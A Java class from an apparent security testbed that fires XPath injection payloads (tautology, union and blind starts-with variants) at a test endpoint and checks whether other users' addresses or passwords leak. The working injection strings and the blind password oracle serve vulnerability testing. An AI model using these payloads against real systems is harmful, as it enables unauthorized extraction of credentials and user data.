package secplane.testbeds.attacks.injection;

import java.net.http.HttpResponse;
import java.util.List;
import java.util.Properties;
import secplane.testbeds.attacks.AttackResult;
import secplane.testbeds.attacks.Testbed;

/**
 * XPath injection (CWE-643) into {@code /users/user[name='<name>']/email} of
 * {@code /xpath/find?name=}. Evidence: more than one user's address, a password of the document,
 * or, blind, an answer that depends on alice's password.
 */
public final class XPathInjectionAttack extends InjectionAttack {

    public enum Variant implements InjectionVariant {
        /** {@code [name='' or '1'='1']}: every user. */
        TAUTOLOGY("' or '1'='1"),
        /** {@code [name='' or ''='']}: the same without digits. */
        EMPTY_STRING_TAUTOLOGY("' or ''='"),
        /** Closes the predicate and unions in every password element. */
        UNION("nobody'] | //password | /users/user[name='nobody"),
        /** Blind: alice's address only when her password starts with the guess. */
        BLIND("alice' and starts-with(password, '<guess>') and '1'='1");

        private final String payload;

        Variant(String payload) {
            this.payload = payload;
        }

        @Override
        public String endpoint() {
            return "/xpath/find";
        }

        @Override
        public String payload() {
            return payload;
        }
    }

    @Override
    public Category category() {
        return Category.XPATH;
    }

    @Override
    public List<Variant> variants() {
        return List.of(Variant.values());
    }

    @Override
    public AttackResult fire(Testbed target, InjectionVariant injectionVariant, Twin twin) throws Exception {
        Variant variant = own(Variant.class, injectionVariant);
        String path = twin.path(variant.endpoint());
        Properties secrets = secrets(target);
        switch (variant) {
            case TAUTOLOGY, EMPTY_STRING_TAUTOLOGY -> {
                HttpResponse<String> response = get(target, path, "name", variant.payload());
                int matches = count(response.body());
                return result(variant, twin, matches >= 2, response.statusCode(), matches >= 2
                        ? matches + " addresses returned for a name that matches none"
                        : "no extra addresses: " + abbreviate(response.body()));
            }
            case UNION -> {
                HttpResponse<String> response = get(target, path, "name", variant.payload());
                String leaked = leakedSecret(secrets, "xpath.password.", response.body());
                return result(variant, twin, leaked != null, response.statusCode(), leaked != null
                        ? "the response shows " + leaked
                        : "no password in: " + abbreviate(response.body()));
            }
            case BLIND -> {
                String prefix = secrets.getProperty("xpath.password.alice").substring(0, 6);
                HttpResponse<String> right = get(target, path, "name", variant.payload().replace("<guess>", prefix));
                HttpResponse<String> wrong = get(target, path, "name", variant.payload().replace("<guess>", "zz-wrong"));
                boolean oracle = count(right.body()) == 1 && count(wrong.body()) == 0;
                return result(variant, twin, oracle, right.statusCode(), oracle
                        ? "alice's address came back for the password prefix '" + prefix + "' and not for a wrong one"
                        : "the answer did not depend on the password (" + abbreviate(right.body()) + " / "
                                + abbreviate(wrong.body()) + ")");
            }
            default -> throw new IllegalStateException("unhandled variant " + variant);
        }
    }
}
